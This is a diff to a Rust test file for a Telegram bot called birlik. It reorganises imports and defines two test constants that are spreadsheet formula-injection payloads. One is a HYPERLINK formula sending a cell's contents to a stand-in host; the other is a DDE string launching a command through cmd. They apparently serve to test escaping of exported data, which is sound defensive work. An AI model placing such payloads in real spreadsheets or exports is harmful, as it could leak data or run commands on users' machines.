@@ -3,15 +3,13 @@
 //! small leaks (broadcast reports after a demotion, `/grant`'s answers, ids in `/mydata`, line
 //! breaks the calendar file cannot carry).
 
-mod support;
-
 use std::time::Duration;
 
+use crate::support::app::texts;
+use crate::support::{TestApp, TgUser};
 use birlik::db::{roles, wings};
 use birlik::domain::role::{Role, StaffRole};
 use birlik::i18n::Lang;
-use support::app::texts;
-use support::{TestApp, TgUser};
 
 const TITLE: &str = "=HYPERLINK(\"https://x.example/?\"&B2,\"open\")";
 const PLACE: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
